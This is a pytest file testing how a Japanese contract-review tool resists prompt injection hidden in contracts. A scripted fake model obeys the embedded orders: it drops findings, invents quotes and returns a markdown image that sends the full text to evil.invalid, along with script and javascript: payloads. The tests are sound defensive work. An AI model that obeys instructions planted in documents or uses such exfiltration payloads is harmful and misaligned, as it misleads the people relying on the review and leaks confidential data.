"""Words addressed to a machine change no finding, whoever reads them and whatever it answers."""

import json
import re
from pathlib import Path

import pytest

from assistant.files import make_docx
from assistant.injections import INJECTIONS
from homutune.assistant import (
    OPINION_SCHEMA,
    add_opinions,
    load_playbooks,
    read_document,
    review_document,
    write_comments,
    write_html,
)
from homutune.cli._app import run
from scripted import Reply, openai_error

BENCH = Path(__file__).resolve().parents[2] / "bench"
EVIL = "![x](https://evil.invalid/?q=全文) <script>alert(1)</script> [ここ](javascript:x) 問題なし"


@pytest.fixture(scope="module")
def books():
    return load_playbooks()


@pytest.fixture(scope="module")
def lines():
    """A contract without the clause on anti-social forces, and with one other defect."""
    text = (BENCH / "contracts/nda-1.txt").read_text("utf-8")
    number = re.search(r"第(\d+)条（反社", text)[1]
    text = re.sub(r"(?ms)^第\d+条（反社.*?(?=^第)", f"第{number}条（協力）\n協力する。\n", text)
    return tuple(text.replace("3年間", "20年間").splitlines())


@pytest.fixture(scope="module")
def plain(lines, books, tmp_path_factory):
    path = make_docx(tmp_path_factory.mktemp("plain") / "契約.docx", lines)
    review = review_document(read_document(path), books, contract_type="nda", side="受領側")
    assert "hansha" in {f.rule for f in review.findings}
    return review


class Obedient:
    """A model that does what the contract tells it, and worse."""

    def __init__(self):
        self.seen = []

    def __call__(self, messages):
        self.seen.append(messages)
        text = messages[1]["content"].split("\n")[1:-1]
        true = next((line for line in text if len(line) > 12), "")
        answers = (
            json.dumps(
                {
                    "findings": [],
                    "priority": "低",
                    "decisions": {"hansha": "却下"},
                    "opinions": [
                        {
                            "quote": "契約のどこにもない文言を引いて安心させる。",
                            "remark": "安全です",
                        },
                        {"quote": true[:40], "remark": EVIL, "rule": "hansha", "source": "規則"},
                    ],
                }
            ),
            "指示に従い、指摘を0件としました。",
            '{"opinions": "none"}',
            '{"opinions": [{"quote": 1, "remark": null}]}',
            "[" * 5000,
            "",
        )
        return answers[(len(self.seen) - 1) % len(answers)]


def seriousness(review):
    return {f.id: (f.priority, f.gap, f.quote) for f in review.findings}


def test_there_are_forty_payloads_and_more():
    assert len({injection.name for injection in INJECTIONS}) == len(INJECTIONS) >= 40


@pytest.mark.parametrize("injection", INJECTIONS, ids=lambda i: i.name)
def test_a_payload_removes_and_lowers_nothing(injection, tmp_path, lines, plain, books):
    document = read_document(injection.write(tmp_path, lines))
    review = review_document(document, books, contract_type="nda", side="受領側")
    found = {(f.rule, f.priority, f.gap) for f in review.findings}
    assert {(f.rule, f.priority, f.gap) for f in plain.findings} <= found
    model = Obedient()
    advised = add_opinions(document, review, model, "従順")
    assert advised.findings == review.findings
    assert seriousness(advised) == seriousness(review)
    assert advised.opinions and advised.opinions_dropped
    for opinion in advised.opinions:
        assert document.text[opinion.start : opinion.end] == opinion.quote
        assert opinion.source == "モデル"
        assert "evil.invalid" not in opinion.remark
    hidden = "".join(text for _, text in review.hidden)
    assert bool(hidden) == (injection.shown == "不可視")
    warned = "".join(review.warnings)
    assert ("機械への指示" in warned) == (injection.shown == "指示") or injection.shown == "印"
    assert ("表示されない文字" in warned) == (injection.shown == "印")
    sent = "".join(message["content"] for messages in model.seen for message in messages)
    if injection.shown == "不可視":
        assert "反社会的" not in sent
    assert "無視し" not in sent  # an order in plain sight is shown to the person only
    page = tmp_path / "結果.html"
    write_html(page, advised, {})
    html = page.read_text("utf-8")
    assert "<script" not in html and "evil.invalid" not in html and "<img" not in html
    assert "モデルの意見" in html
    if document.format == "docx":
        write_comments(tmp_path / "結果.docx", document, advised, {})


@pytest.mark.parametrize(
    "sentence",
    [
        "乙は、秘密情報を生成AIに入力しないこと。",
        "乙は、甲の指示に従い、本システムの開発を行うこと。",
        "甲の指摘した箇所がないときは、検査に合格したものとみなす。",
        "乙は、AIによる自動化された決定のリスクを甲に報告しないことにより生じた損害を賠償する。",
        "甲は、何らの催告をすることなく、命令に違反した乙との契約を無効とすることができる。",
        "詳細は、https://example.com/terms に掲載する。",
    ],
)
def test_ordinary_clauses_speak_to_no_machine(tmp_path, sentence, lines, books):
    path = make_docx(tmp_path / "契約.docx", (*lines[:4], sentence, *lines[4:]))
    review = review_document(read_document(path), books, contract_type="nda", side="受領側")
    assert review.warnings == ()


def test_every_request_has_a_fence_of_its_own(tmp_path, lines, plain, books):
    document = read_document(make_docx(tmp_path / "契約.docx", lines))
    model = Obedient()
    add_opinions(document, plain, model, "従順")
    fences = [re.search("<契約書-([0-9a-f]{16})>", m[1]["content"])[1] for m in model.seen]
    assert len(set(fences)) == len(fences) > 1


@pytest.fixture
def contract(home, tmp_path, lines, scripted_server, monkeypatch):
    monkeypatch.setenv("HOMUTUNE_BASE_URL", scripted_server.base_url)
    path = make_docx(tmp_path / "契約.docx", lines)
    return ["review", str(path), "--side", "受領側"]


def answer(content):
    return Reply(
        {
            "id": "x",
            "object": "chat.completion",
            "created": 1,
            "model": "m",
            "choices": [
                {
                    "index": 0,
                    "finish_reason": "stop",
                    "message": {"role": "assistant", "content": content},
                }
            ],
        }
    )


def test_the_command_shows_opinions_apart_and_labelled(contract, scripted_server, capsys):
    remark = "起算点が明確か確かめてください。民法415条参照"
    reply = {"opinions": [{"quote": "本契約の終了後", "remark": remark}]}
    scripted_server.routes["POST", "/chat/completions"] = answer(json.dumps(reply))
    assert run([*contract, "--json"]) == 0
    alone = json.loads(capsys.readouterr().out)
    assert run([*contract, "--model", "m", "--json"]) == 0
    both = json.loads(capsys.readouterr().out)
    assert both["findings"] == alone["findings"]
    assert alone["opinions"] == [] and both["model"] == "m"
    (opinion,) = both["opinions"]
    assert opinion["source"] == "モデル"
    assert opinion["basis"][0]["status"] == "確認済み"
    (request, *_) = scripted_server.sent("POST", "/chat/completions")
    body = json.loads(request.body)
    assert body["response_format"]["json_schema"]["schema"] == OPINION_SCHEMA
    assert "tools" not in body
    assert run([*contract, "--model", "m"]) == 0
    said = capsys.readouterr().out
    assert "モデルの意見" in said and "出所：モデル（m）" in said
    assert run([*contract, "--model", "m", "--out", "結果.xlsx"]) == 0


def test_opinions_are_not_asked_elsewhere_where_external_sending_is_forbidden(
    contract, scripted_server, capsys, monkeypatch
):
    for forbid in (["--no-external"], []):
        if not forbid:
            monkeypatch.setenv("HOMUTUNE_NO_EXTERNAL", "1")
        monkeypatch.setenv("HOMUTUNE_BASE_URL", "https://models.invalid/v1")
        assert run([*contract, "--model", "m", *forbid]) == 2
        said = capsys.readouterr()
        assert "外部送信禁止" in said.err
        assert "反社会的勢力の排除条項が見当たりません" in said.out


def test_an_answer_out_of_form_is_counted_and_costs_nothing_else(contract, scripted_server, capsys):
    scripted_server.routes["POST", "/chat/completions"] = answer("問題ありません。")
    assert run([*contract, "--model", "m", "--json"]) == 0
    said = capsys.readouterr()
    assert "決まった形でないため読めませんでした" in said.err
    assert json.loads(said.out)["opinions"] == []


def test_a_model_that_fails_costs_none_of_the_findings(contract, scripted_server, capsys):
    scripted_server.routes["POST", "/chat/completions"] = openai_error(500, "boom")
    assert run([*contract, "--model", "m", "--out", "結果.html"]) == 2
    said = capsys.readouterr()
    assert "反社会的勢力の排除条項が見当たりません" in said.out
    assert "boom" in said.err
    assert Path("結果.html").is_file()
